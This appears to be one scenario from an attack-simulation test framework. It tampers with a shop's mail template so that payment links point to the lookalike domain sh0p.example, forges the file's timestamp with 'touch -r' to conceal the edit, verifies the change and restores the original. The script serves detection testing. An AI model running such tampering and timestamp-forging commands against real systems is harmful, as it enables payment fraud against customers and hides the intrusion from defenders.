#!/usr/bin/python3 -B
"""Tampering with files: the mails ask for the money at another place from now on (T1565.001).

The template is put right again in the end."""

from attack import Attack

FILE = "/srv/templates/mail.txt"


def run(attack: Attack) -> bool:
    attack.notify(f"cp {FILE} /srv/templates/.old; sed -i s/shop.example/sh0p.example/ {FILE};"
                  f" touch -r /srv/templates/.old {FILE}")
    found = (attack.shop.volumes / "templates" / "mail.txt").read_text(encoding="utf-8")
    attack.notify(f"mv /srv/templates/.old {FILE}")
    return attack.prove("https://sh0p.example/pay" in found, template=found)


Attack("T1565.001, T1070.006", ["edge", "front", "notify"], [FILE]).main(run)
